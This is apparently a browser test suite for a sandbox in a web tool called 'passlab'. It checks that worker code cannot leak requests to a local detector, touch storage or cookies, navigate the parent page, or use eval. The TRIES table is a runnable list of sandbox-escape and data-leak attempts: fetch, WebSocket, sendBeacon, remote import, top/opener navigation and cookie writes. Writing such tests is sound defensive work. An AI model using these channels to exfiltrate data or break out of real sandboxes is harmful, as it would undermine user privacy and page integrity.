/**
 * The sandbox against code that tries to escape. Nothing leaves the browser, nothing of the page is reached, and the
 * page goes on with the program as it was.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { eventually, type Lab, SMALL, type Stage, setUp } from "./browser";
import { type Detector, detector } from "./detector";

/** Ways out, as code in a worker would try them. `LEAK` and `SITE` are addresses. */
const TRIES: Record<string, string> = {
  fetch: "await fetch(LEAK + 'fetch')",
  "fetch without cors": "await fetch(LEAK + 'opaque', { mode: 'no-cors' })",
  "fetch of the site": "await fetch(SITE)",
  "fetch of data": "await fetch('data:text/plain,x')",
  XMLHttpRequest: `await new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open('GET', LEAK + 'xhr');
    request.onload = done;
    request.onerror = fail;
    request.send();
  })`,
  WebSocket: `await new Promise((done, fail) => {
    const socket = new WebSocket(LEAK.replace('http', 'ws') + 'socket');
    socket.onopen = done;
    socket.onerror = fail;
  })`,
  EventSource: `await new Promise((done, fail) => {
    const source = new EventSource(LEAK + 'events');
    source.onopen = done;
    source.onerror = fail;
  })`,
  WebTransport: "await new WebTransport(LEAK.replace('http:', 'https:') + 'transport').ready",
  sendBeacon: "if (!navigator.sendBeacon(LEAK + 'beacon')) throw new Error('refused')",
  "import from elsewhere": "await import(LEAK + 'import')",
  "import of data": "await import('data:text/javascript,export default 1')",
  importScripts: "importScripts(LEAK + 'scripts')",
  "worker from elsewhere": `await new Promise((done, fail) => {
    const worker = new Worker(LEAK + 'worker');
    worker.onmessage = done;
    worker.onerror = fail;
  })`,
  SharedWorker: "new SharedWorker(LEAK + 'shared')",
  serviceWorker: "await navigator.serviceWorker.register(LEAK + 'service')",
  localStorage: "localStorage.setItem('passlab.draft', 'mine')",
  sessionStorage: "sessionStorage.setItem('a', 'b')",
  indexedDB: `await new Promise((done, fail) => {
    const request = indexedDB.open('passlab');
    request.onsuccess = done;
    request.onerror = fail;
  })`,
  caches: "await caches.open('passlab')",
  "files of the origin": "await navigator.storage.getDirectory()",
  cookies: "document.cookie = 'a=b'",
  cookieStore: "await cookieStore.set('a', 'b')",
  parent: "parent.document.title = 'mine'",
  top: "top.location = LEAK + 'top'",
  opener: "opener.location = LEAK + 'opener'",
  "the page's document": "document.body.remove()",
  location: "location.href = LEAK + 'location'; throw location.href",
  open: "open(LEAK + 'window')",
  eval: "(0, eval)('1')",
  Function: "(() => {}).constructor('return 1')()",
  "a generator's constructor": "(function* () {}).constructor('yield 1')()",
  "timers of text": `await new Promise((done, fail) => {
    globalThis.reached = done;
    setTimeout('reached()');
    setTimeout(fail, 200);
  })`,
  SharedArrayBuffer: "new SharedArrayBuffer(8)",
};

/** Returns code that makes every attempt and calls `tell` with its name and its result. */
function attempts(leak: string, site: string, tell: string): string {
  const list = Object.entries(TRIES).map(
    ([name, code]) => `  [${JSON.stringify(name)}, async () => { ${code} }],`,
  );
  return `const LEAK = ${JSON.stringify(leak)};
const SITE = ${JSON.stringify(site)};
const late = () => new Promise((_, fail) => setTimeout(() => fail(new Error("no answer")), 400));
const tries = [
${list.join("\n")}
];
for (const [name, attempt] of tries) {
  try {
    await Promise.race([attempt(), late()]);
    ${tell}(name + ": done");
  } catch (error) {
    ${tell}(name + ": refused");
  }
}
${tell}("all tried");
`;
}

let stage: Stage;
let leak: Detector;

beforeAll(async () => {
  [stage, leak] = await Promise.all([setUp(), detector()]);
});
afterAll(async () => {
  await leak?.close();
  await stage?.close();
});

const withPage: Stage["withPage"] = (...given) => stage.withPage(...given);

/** Checks that the page is alive, and the program as it was: without the script it runs and answers. */
async function intact(lab: Lab): Promise<void> {
  await lab.writeScript("");
  await lab.tab("Program").click();
  expect(await lab.source()).toBe(SMALL);
  await lab.write(`${SMALL}// still here\n`);
  await lab.step(/^FuseOps changed/).click();
  await lab.region("Diff").getByText("Primitive=1").first().waitFor();
  await eventually(() => lab.page.getByText("stale").count(), 0);
}

describe("ways out", () => {
  test("none of them leads anywhere", () =>
    // In a profile of its own, whose pages have all that a page has.
    stage.withProfile({}, async (lab) => {
      await lab.write(SMALL);
      await lab.writeScript(attempts(leak.url, stage.site.url, "console.log"));
      await lab.console.getByText("all tried").waitFor();
      const said = await lab.console.locator("pre").allTextContents();
      expect(said).toEqual([...Object.keys(TRIES).map((name) => `${name}: refused`), "all tried"]);
      expect(leak.requests).toEqual([]);
      expect(await lab.page.title()).toBe("passlab");
      const kept = () => lab.page.evaluate(() => JSON.stringify({ ...localStorage }));
      await eventually(kept, /"passlab\.tab\.\d+":".*def @main/);
      // The browser notes the attempt; nothing else may fail.
      await intact(lab);
    }));

  test("the detector would have seen them: without the sandbox it does", async () => {
    const context = await stage.browser.newContext();
    const page = await context.newPage();
    await page.goto(`${leak.url}page`);
    leak.requests.length = 0;
    const code = attempts(leak.url, `${leak.url}site`, "postMessage");
    await page.evaluate(async (text) => {
      // An ordinary worker; its code is a module, as the sandbox's is.
      const worker = new Worker(
        URL.createObjectURL(new Blob([text], { type: "text/javascript" })),
        {
          type: "module",
        },
      );
      await new Promise<void>((done) => {
        worker.onmessage = ({ data }) => data === "all tried" && done();
      });
    }, code);
    const seen = (path: string) => leak.requests.some((request) => request.startsWith(path));
    for (const path of ["/fetch", "/opaque", "/xhr", "/socket", "/events", "/import"]) {
      expect([path, seen(path)]).toEqual([path, true]);
    }
    leak.requests.length = 0;
    await context.close();
  });

  test("no channel by name reaches the page", () =>
    withPage({}, async (lab) => {
      await lab.page.evaluate(() => {
        const store = window as unknown as { heard: unknown[] };
        store.heard = [];
        new BroadcastChannel("passlab").onmessage = ({ data }) => store.heard.push(data);
        addEventListener("message", ({ data }) => store.heard.push(data));
      });
      await lab.writeScript(`
        new BroadcastChannel("passlab").postMessage("from the sandbox");
        console.log("sent");
      `);
      await lab.console.getByText("sent").waitFor();
      const heard = () =>
        lab.page.evaluate(() => (window as unknown as { heard: unknown[] }).heard);
      await lab.page.waitForTimeout(300);
      expect(await heard()).toEqual([]);
    }));

  /** A click in a frame of another site's page, meant for something else, would count as consent. */
  test("the page does not start inside of a frame, where a click may be meant for something else", async () => {
    const context = await stage.browser.newContext();
    const page = await context.newPage();
    await page.route("**/host.html", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<!doctype html><iframe src="${stage.site.url}"></iframe>`,
      }),
    );
    await page.goto(new URL("host.html", stage.site.url).href);
    const link = page.frameLocator("iframe").getByRole("link", { name: /in a tab of its own/ });
    expect(await link.getAttribute("href")).toBe(stage.site.url);
    expect(page.workers()).toEqual([]);
    await context.close();
  });

  test("the sandbox's page does nothing outside of a sandboxed frame", async () => {
    let address = "";
    await withPage({}, async (lab) => {
      await lab.writeScript(`console.log("here");`);
      await lab.console.getByText("here").waitFor();
      const frame = lab.page.locator("iframe");
      expect(await frame.getAttribute("sandbox")).toBe("allow-scripts");
      address = await frame.evaluate((node) => (node as HTMLIFrameElement).src);
    });
    const context = await stage.browser.newContext();
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (error) => errors.push(error.message));
    await page.goto(address);
    expect(errors).toEqual(["the sandbox runs in a sandboxed frame only"]);
    await context.close();
  });

  test.each([
    ["as many answers as questions", "postMessage('ready');", ["ready"]],
    ["nothing unasked", "postMessage('ready'); postMessage('more');", ["ready", "nobody asked"]],
    ["nothing but text", "postMessage({ type: 'ready' });", ["not an answer"]],
    ["nothing without end", "postMessage('x'.repeat(101));", ["too large"]],
    ["no flood", "for (;;) postMessage('ready');", ["ready", "nobody asked"]],
    ["no worker that does not start", "throw new Error('mine');", ["mine"]],
  ])("its frame lets through %s", (_, harness, wanted) =>
    withPage({}, async (lab) => {
      await lab.writeScript(`console.log("here");`);
      await lab.console.getByText("here").waitFor();
      const heard = await lab.page.evaluate(async (text) => {
        const frame = document.createElement("iframe");
        frame.setAttribute("sandbox", "allow-scripts");
        frame.src = document.querySelector("iframe")?.src ?? "";
        document.body.append(frame);
        await new Promise((done) => frame.addEventListener("load", done));
        const { port1, port2 } = new MessageChannel();
        const messages: unknown[] = [];
        port1.onmessage = ({ data }) => messages.push(data);
        const start = { type: "start", harness: text, engine: [new ArrayBuffer(8)], longest: 100 };
        frame.contentWindow?.postMessage(start, "*", [port2]);
        await new Promise((done) => setTimeout(done, 1500));
        frame.remove();
        return messages;
      }, harness);
      expect(heard).toHaveLength(wanted.length);
      for (const [at, words] of wanted.entries()) expect(String(heard[at])).toContain(words);
    }),
  );

  test("without a script nothing of the sandbox is loaded", () =>
    withPage({}, async (lab) => {
      await lab.write(SMALL);
      await lab.step(/^FuseOps changed/).waitFor();
      expect(await lab.page.locator("iframe").count()).toBe(0);
      const loaded = await lab.page.evaluate(() =>
        performance.getEntriesByType("resource").map((entry) => entry.name),
      );
      expect(loaded.filter((name) => /sandbox|harness|host|ScriptPane/.test(name))).toEqual([]);
    }));
});
